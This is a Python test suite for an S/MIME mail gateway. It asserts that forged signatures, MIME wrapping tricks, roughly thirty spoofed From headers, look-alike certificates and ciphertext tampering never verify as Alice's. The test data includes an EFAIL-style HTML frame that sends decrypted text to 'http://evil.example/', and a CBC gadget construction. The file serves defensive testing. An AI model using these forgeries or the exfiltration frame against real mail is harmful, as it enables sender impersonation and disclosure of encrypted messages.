"""Whole messages that try to be shown as Alice's, or to get at what was encrypted for her.

Eve has a good certificate of a good CA for her own address.  No message here may come out as
verified for Alice; where Eve signs honestly as herself, she passes as Eve.
"""

from __future__ import annotations

import base64
from dataclasses import replace
from pathlib import Path

import pytest
from cryptography.hazmat.primitives import hashes

from smimegw.addresses import Mailbox
from smimegw.cms import der
from smimegw.cms.algorithms import ContentCipher, DigestAlgorithm, signature_scheme_for
from smimegw.cms.identifiers import issuer_and_serial_number
from smimegw.cms.keys import SigningCredential
from smimegw.cms.signed_data import certificates_only, sign_detached
from smimegw.errors import DecryptionError, LimitError, MIMEError, VerificationError
from smimegw.limits import DEFAULT_LIMITS
from smimegw.mime.entity import Entity
from smimegw.smime.decrypt import decrypt
from smimegw.smime.media_types import EncryptedLayer, SignedLayer, layer_of
from smimegw.smime.sign import sign_opaque
from smimegw.smime.verify import identity_of, verify
from tests.fakes.pki import CA, NOW, SERVER_AUTH, Issued, make_ca, raw_rfc822
from tests.fakes.smime import (
    ALICE,
    EVE,
    EVIDENCE,
    ISSUING,
    TEXT,
    address,
    assembled,
    clear_signed,
    encrypted,
    multipart_signed,
    pkcs7,
    reader,
    signature_of,
    signer,
    signer_infos_of,
)
from tests.interop.openssl import Files, openssl

FROM_ALICE = b"From: Alice <alice@ours.example>\r\n"
LIE = Entity.parse(b"Content-Type: text/plain\r\n\r\nPay 900 EUR to eve.\r\n")
TRUE_SIGNATURE = signature_of(clear_signed(TEXT, ALICE))


def message(entity: Entity, fields: bytes = FROM_ALICE) -> bytes:
    """A message with that root entity."""
    return fields + b"Subject: invoice\r\nMIME-Version: 1.0\r\n" + entity.raw


def verified_as(octets: bytes) -> Mailbox | None:
    """Whose message it is shown as; None when it is shown as nobody's."""
    try:
        content = Entity.parse(octets)
        layer = layer_of(content)
        for _ in range(DEFAULT_LIMITS.layers):
            if not isinstance(layer, EncryptedLayer):
                break
            layer = layer_of(decrypt(layer, [reader(ALICE)]).entity)
        if not isinstance(layer, SignedLayer):
            return None
        originator, sender = identity_of(content.header)
        return verify(layer, EVIDENCE, originator=originator, sender=sender, now=NOW).mailbox
    except (VerificationError, MIMEError, DecryptionError):
        return None


def verdict(octets: bytes) -> tuple[str, str]:
    """Result and reason of a message that does not pass."""
    content = Entity.parse(octets)
    layer = layer_of(content)
    assert isinstance(layer, SignedLayer)
    originator, sender = identity_of(content.header)
    with pytest.raises(VerificationError) as caught:
        verify(layer, EVIDENCE, originator=originator, sender=sender, now=NOW)
    return caught.value.result, caught.value.reason


def test_honest_message_passes() -> None:
    """The measuring device works: Alice's own message is Alice's (cases I01)."""
    assert verified_as(message(clear_signed())) == address(ALICE)
    assert verified_as(message(sign_opaque(TEXT, signer(ALICE), now=NOW))) == address(ALICE)
    assert verified_as(message(encrypted(clear_signed()))) == address(ALICE)


# --- CMS -----------------------------------------------------------------------------------------


def _detached(credential: SigningCredential, entity: Entity) -> bytes:
    state = hashes.Hash(hashes.SHA256())
    state.update(entity.raw)
    return sign_detached(
        state.finalize(),
        digest_algorithm=DigestAlgorithm.SHA256,
        credential=credential,
        scheme=signature_scheme_for(credential.certificate),
        signing_time=NOW,
        capabilities=None,
    )


EVES = _detached(signer(EVE), LIE)

JOHNNY_CMS = {
    "detached, carries what alice signed": multipart_signed(
        LIE.raw, assembled(TRUE_SIGNATURE, encapsulated=TEXT.raw)
    ),
    "detached, carries the lie": multipart_signed(
        TEXT.raw, assembled(TRUE_SIGNATURE, encapsulated=LIE.raw)
    ),
    "opaque, alice's signature around the lie": pkcs7(
        assembled(TRUE_SIGNATURE, encapsulated=LIE.raw)
    ),
    "opaque, no content": pkcs7(TRUE_SIGNATURE),
    "eve's signature with alice's certificate first": multipart_signed(
        LIE.raw, assembled(EVES, certificates=[ALICE.certificate, EVE.certificate])
    ),
    "eve's signature with alice's certificate only": multipart_signed(
        LIE.raw, assembled(EVES, certificates=[ALICE.certificate])
    ),
    "alice's certificates and no signer": multipart_signed(
        LIE.raw, certificates_only([ALICE.certificate, ISSUING.certificate])
    ),
    "alice's and eve's signer": multipart_signed(LIE.raw, assembled(TRUE_SIGNATURE, EVES)),
    "eve's and alice's signer": multipart_signed(
        LIE.raw,
        assembled(
            EVES,
            TRUE_SIGNATURE,
            signer_infos=[*signer_infos_of(EVES), *signer_infos_of(TRUE_SIGNATURE)],
        ),
    ),
    "alice's signer twice": multipart_signed(LIE.raw, assembled(TRUE_SIGNATURE, TRUE_SIGNATURE)),
}


@pytest.mark.parametrize("name", JOHNNY_CMS)
def test_forged_cms_is_nobody_s(name: str) -> None:
    """Contents, certificates and signers mixed anew ("Johnny, you are fired"; cases I11, H21)."""
    assert verified_as(message(JOHNNY_CMS[name])) is None


def test_signer_info_that_names_alice_s_certificate() -> None:
    """Eve's mathematics under Alice's issuer and serial number (cases I11)."""
    info = signer_infos_of(EVES)[0]
    eve = issuer_and_serial_number(EVE.certificate)
    assert eve in info
    forged = _with_new_length(info.replace(eve, issuer_and_serial_number(ALICE.certificate)))
    octets = assembled(
        EVES, certificates=[ALICE.certificate, EVE.certificate], signer_infos=[forged]
    )
    entity = multipart_signed(LIE.raw, octets)
    # signingCertificateV2 under Eve's signature still names her certificate (RFC 5035, 5.4)
    assert verdict(message(entity)) == ("fail", "attributes")


def _with_new_length(sequence: bytes) -> bytes:
    header = 2 if sequence[1] < 0x80 else 2 + (sequence[1] & 0x7F)
    return der.sequence(sequence[header:])


def test_sha1_signature_is_weak(tmp_path: Path) -> None:
    """A digest with known collisions proves nothing (R-42)."""
    files = Files.of(ALICE, tmp_path, "alice")
    octets = openssl(
        "cms", "-sign", "-binary", "-md", "sha1", "-outform", "DER", "-certfile", files.chain,
        "-signer", files.certificate, "-inkey", files.key, stdin=TEXT.raw,
    )  # fmt: skip
    entity = multipart_signed(TEXT.raw, octets)
    assert verdict(message(entity)) == ("policy", "weak-digest")


# --- MIME ----------------------------------------------------------------------------------------

_SIGNED = clear_signed(TEXT, ALICE).raw
_MIXED = b'Content-Type: multipart/mixed; boundary="m"\r\n\r\n'
_LIE_PART = b"--m\r\n" + LIE.raw + b"\r\n"

JOHNNY_MIME = {
    "text before": _MIXED + _LIE_PART + b"--m\r\n" + _SIGNED + b"\r\n--m--\r\n",
    "text after": _MIXED + b"--m\r\n" + _SIGNED + b"\r\n" + _LIE_PART + b"--m--\r\n",
    "hidden in related": (
        _MIXED.replace(b"mixed", b"related")
        + b'--m\r\nContent-Type: text/html\r\n\r\nPay 900 EUR<div style="display:none">\r\n--m\r\n'
        + _SIGNED
        + b"\r\n--m--\r\n"
    ),
    "as an attachment": (
        _MIXED
        + _LIE_PART
        + b"--m\r\nContent-Type: message/rfc822\r\nContent-Disposition: attachment\r\n\r\n"
        + FROM_ALICE
        + _SIGNED
        + b"\r\n--m--\r\n"
    ),
    "forwarded as the root": b"Content-Type: message/rfc822\r\n\r\n" + FROM_ALICE + _SIGNED,
    "alternative": (
        _MIXED.replace(b"mixed", b"alternative")
        + b"--m\r\n" + _SIGNED + b"\r\n" + _LIE_PART + b"--m--\r\n"
    ),
    "third part in multipart/signed": _SIGNED.replace(
        b"This is an S/MIME signed message\r\n", b"", 1
    ).replace(b"--\r\n", b"\r\n" + LIE.raw + b"--\r\n", 1),
    "multipart/signed in multipart/signed": multipart_signed(_SIGNED, TRUE_SIGNATURE).raw,
    "signature part of another kind": multipart_signed(
        LIE.raw, TRUE_SIGNATURE, signature_type=b"application/octet-stream"
    ).raw,
    "two content types": b"Content-Type: text/plain\r\n" + _SIGNED,
    "two content types, other order": b"Content-Type: text/html\r\nContent-type: a/b\r\n" + _SIGNED,
}  # fmt: skip


@pytest.mark.parametrize("name", JOHNNY_MIME)
def test_signed_part_in_a_foreign_frame_is_nobody_s(name: str) -> None:
    """The signature must cover what is shown: the whole body (cases I09, I11, I26)."""
    assert b"100 EUR" in JOHNNY_MIME[name] or b"900 EUR" in JOHNNY_MIME[name]
    assert verified_as(message(Entity.parse(JOHNNY_MIME[name]))) is None


# --- identity ------------------------------------------------------------------------------------

SPOOFED_FROM = {
    "alice, plainly": b"From: alice@ours.example\r\n",
    "two fields, alice first": b"From: alice@ours.example\r\nFrom: eve@evil.example\r\n",
    "two fields, eve first": b"From: eve@evil.example\r\nFrom: alice@ours.example\r\n",
    "two fields, case": b"From: eve@evil.example\r\nFROM: alice@ours.example\r\n",
    "two fields, space": b"From: eve@evil.example\r\nFrom : alice@ours.example\r\n",
    "two fields, space first": b"From : alice@ours.example\r\nFrom: eve@evil.example\r\n",
    "two mailboxes": b"From: alice@ours.example, eve@evil.example\r\n",
    "two mailboxes, eve first": b"From: eve@evil.example, alice@ours.example\r\n",
    "two mailboxes, angle": b"From: <alice@ours.example> <eve@evil.example>\r\n",
    "group": b"From: staff: eve@evil.example;\r\n",
    "empty group": b"From: alice@ours.example:;\r\n",
    "empty": b"From:\r\n",
    "missing": b"To: alice@ours.example\r\n",
    "sender": b"From: alice@ours.example\r\nSender: eve@evil.example\r\n",
    "sender, eve's from": b"From: eve@evil.example\r\nSender: alice@ours.example\r\n",
    "comment": b"From: alice@ours.example(<eve@evil.example>)\r\n",
    "comment inside": b"From: <eve@evil.example(\r\n )alice@ours.example>\r\n",
    "bare display name": b"From: alice@ours.example <eve@evil.example>\r\n",
    "route": b"From: <@evil.example:alice@ours.example>\r\n",
    "route of alice": b"From: <@alice@ours.example:eve@evil.example>\r\n",
    "nul": b"From: eve@evil.example\0<alice@ours.example>\r\n",
    "nul in the address": b"From: <eve@evil.example\0@ours.example>\r\n",
    "quoted local part": b'From: "alice@ours.example,"@evil.example\r\n',
    "quoted pair": b"From: <alice\\@ours.example@evil.example>\r\n",
    "encoded word as the address": (
        b"From: =?utf-8?b?" + base64.b64encode(b"alice@ours.example") + b"?=\r\n"
    ),
    "encoded word, half an address": (
        b"From: =?utf-8?q?=3Calice=40ours=2Eexample=3E?= <eve@evil.example\r\n"
    ),
    "folded away": b"From:\r\n alice@ours.example\r\n",
    "unclosed angle": b"From: alice@ours.example <eve@evil.example\r\n",
    "semicolon list": b"From: alice@ours.example; eve@evil.example\r\n",
    "bare cr": b"From: eve@evil.example\rFrom: alice@ours.example\r\n",
}


@pytest.mark.parametrize("name", SPOOFED_FROM)
def test_spoofed_from_is_never_alice(name: str) -> None:
    """Eve's honest signature under every way to write Alice (cases I07, I11)."""
    assert verified_as(message(clear_signed(TEXT, EVE), SPOOFED_FROM[name])) is None


ALICE_IN_DISPLAY = [
    b'From: "alice@ours.example" <eve@evil.example>\r\n',
    b"From: =?utf-8?q?alice=40ours=2Eexample?= <eve@evil.example>\r\n",
    b"From: Alice Abel <eve@evil.example>\r\n",
    b"From: eve@evil.example (alice@ours.example)\r\n",
]


@pytest.mark.parametrize("field", ALICE_IN_DISPLAY)
def test_display_name_is_not_who_signed(field: bytes) -> None:
    """Eve passes as Eve; the name she chose is another matter (cases I05)."""
    assert verified_as(message(clear_signed(TEXT, EVE), field)) == address(EVE)


def test_families_are_not_smaller_than_those_published() -> None:
    """8 of CMS, 4 of MIME and 15 of identity (I11), and 22 ways to write From (I07)."""
    assert len(JOHNNY_CMS) >= 8
    assert len(JOHNNY_MIME) >= 4
    assert len(SPOOFED_FROM) >= 22


def _eve(**options: object) -> Issued:
    return ISSUING.issue(slot="eve", **options)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    "issued",
    [
        _eve(mailbox="alice@evil.example"),
        _eve(mailbox="alice@ours.example.evil.example"),
        _eve(mailbox="alice@sub.ours.example"),
        _eve(mailbox="alice+x@ours.example"),
        _eve(mailbox=None, common_name="alice@ours.example"),
        _eve(san=[raw_rfc822("eve@evil.example")], common_name="alice@ours.example"),
        _eve(san=[raw_rfc822('"alice@ours.example"@evil.example')]),
        _eve(mailbox="аlice@ours.example"),  # Cyrillic а
    ],
    ids=["domain", "suffix", "subdomain", "tag", "name", "name-and-san", "quoted", "homograph"],
)
def test_certificate_that_is_nearly_alice_s(issued: Issued) -> None:
    """Only a whole, equal address of the subjectAltName counts (cases I11)."""
    assert verified_as(message(clear_signed(TEXT, issued))) is None


@pytest.mark.parametrize(
    ("issued", "expected"),
    [
        (make_ca("S/MIME Issuing", slot="forger").issue("alice@ours.example"), "untrusted-ca"),
        (ISSUING.issue("alice@ours.example", eku=[SERVER_AUTH]), "extended-key-usage"),
        (ISSUING.issue("alice@ours.example", usage="encrypt"), "key-usage"),
    ],
    ids=["ca-of-the-same-name", "web-server", "encryption-only"],
)
def test_certificate_for_alice_that_does_not_count(issued: Issued, expected: str) -> None:
    """The right address in a certificate of the wrong kind (cases I17, I19)."""
    assert verdict(message(clear_signed(TEXT, issued))) == ("policy", expected)


def test_certificate_issued_by_an_end_entity() -> None:
    """Eve uses her own good certificate as a CA (cases I11)."""
    rogue = CA(
        certificate=EVE.certificate,
        key=EVE.key,
        chain=EVE.chain,
        name=EVE.certificate.parsed.subject,
    )
    forged = rogue.issue("alice@ours.example")
    assert verified_as(message(clear_signed(TEXT, forged))) is None


# --- ciphertext ----------------------------------------------------------------------------------

_SEALED = encrypted(clear_signed()).raw


@pytest.mark.parametrize(
    "frame",
    [
        _MIXED
        + b'--m\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.example/\r\n--m\r\n%s\r\n'
        b'--m\r\nContent-Type: text/html\r\n\r\n">\r\n--m--\r\n',
        b"Content-Type: message/rfc822\r\n\r\n%s",
        _MIXED + b"--m\r\n%s\r\n--m--\r\n",
    ],
    ids=["html-frame", "forwarded", "alone"],
)
def test_nested_ciphertext_stays_closed(frame: bytes) -> None:
    """EFAIL's direct exfiltration: only the root is ever opened (cases J01)."""
    assert layer_of(Entity.parse(frame % _SEALED)) is None


@pytest.mark.parametrize(
    "fields",
    [
        b"Content-Type: text/plain\r\n\r\n",
        b"Content-Type: application/ms-tnef\r\nContent-Transfer-Encoding: base64\r\n\r\n",
    ],
    ids=["text", "tnef"],
)
def test_ciphertext_in_disguise_stays_closed(fields: bytes) -> None:
    """Base64 of ciphertext in other types (cases J07)."""
    octets = base64.encodebytes(encrypted().decoded_body().whole())
    assert layer_of(Entity.parse(fields + octets)) is None


def test_ciphertext_split_over_two_parts_stays_closed() -> None:
    """Half and half in one multipart (cases J07)."""
    octets = encrypted().decoded_body().whole()
    half = len(octets) // 2
    part = (
        b"--m\r\nContent-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: binary\r\n\r\n"
    )
    body = part + octets[:half] + b"\r\n" + part + octets[half:] + b"\r\n--m--\r\n"
    assert layer_of(Entity.parse(_MIXED + body)) is None


def _cbc_layer(octets: bytes) -> EncryptedLayer:
    layer = layer_of(pkcs7(octets))
    assert isinstance(layer, EncryptedLayer)
    return layer


def test_cbc_gadget_does_not_come_out() -> None:
    """Blocks shifted to make HTML leave noise between them, and noise is not delivered (T-04)."""
    long = Entity.parse(b"Content-Type: text/plain\r\n\r\n" + b"secret text of alice " * 40)
    octets = bytearray(encrypted(long).decoded_body().whole())
    layer = _cbc_layer(bytes(octets))
    blocks = b"".join(layer.enveloped.encrypted_content)
    shuffled = b"".join(blocks[at : at + 16] for at in range(64 + 31 * 16, 63, -16))
    gadget = blocks[:64] + shuffled + blocks[64 + 32 * 16 :]
    assert len(gadget) == len(blocks)
    with pytest.raises(DecryptionError):
        decrypt(_cbc_layer(bytes(octets).replace(blocks, gadget)), [reader(ALICE)])


def test_all_failures_of_opening_look_alike() -> None:
    """Padding, key, content: one exception without words (T-07, cases H19, J05)."""
    octets = encrypted().decoded_body().whole()
    blocks = b"".join(_cbc_layer(octets).enveloped.encrypted_content)
    wrecked = {
        "last block": blocks[:-1] + bytes([blocks[-1] ^ 1]),
        "first block": bytes([blocks[0] ^ 1]) + blocks[1:],
        "padding block's iv": blocks[:-17] + bytes([blocks[-17] ^ 0x55]) + blocks[-16:],
    }
    seen = set()
    for changed in wrecked.values():
        try:
            decrypt(_cbc_layer(octets.replace(blocks, changed)), [reader(ALICE)])
        except DecryptionError as exc:
            seen.add((type(exc), exc.args, exc.__cause__, exc.__context__))
    assert len(seen) == 1


def test_encrypted_is_not_signed() -> None:
    """Encryption alone never gives trust: Eve can encrypt to Alice as well."""
    assert verified_as(message(encrypted(TEXT, cipher=ContentCipher.AES_256_GCM))) is None


def test_from_inside_an_encrypted_entity_does_not_count() -> None:
    """Eve's signed mail in an envelope with Alice's name inside and outside."""
    inner = Entity.parse(FROM_ALICE + clear_signed(TEXT, EVE).raw)
    assert verified_as(message(encrypted(inner))) is None
    assert verified_as(message(encrypted(inner), b"From: eve@evil.example\r\n")) == address(EVE)


def test_limits_are_reported_as_limits() -> None:
    """Seventeen signers are not looked at one by one (cases H03)."""
    infos = signer_infos_of(TRUE_SIGNATURE) * (DEFAULT_LIMITS.signer_infos + 1)
    entity = multipart_signed(TEXT.raw, assembled(TRUE_SIGNATURE, signer_infos=infos))
    with pytest.raises(LimitError):
        layer_of(entity)


def test_replaced_evidence_of_the_signer_is_not_taken() -> None:
    """A CRL that comes with the message does not make an unknown status good (T-13)."""
    entity = clear_signed(TEXT, ALICE)
    layer = layer_of(entity)
    assert isinstance(layer, SignedLayer)
    layer = replace(layer, signed_data=replace(layer.signed_data, crls=EVIDENCE.crls))
    with pytest.raises(VerificationError) as caught:
        verify(layer, replace(EVIDENCE, crls=()), originator=address(ALICE), sender=None, now=NOW)
    assert caught.value.result == "temperror"
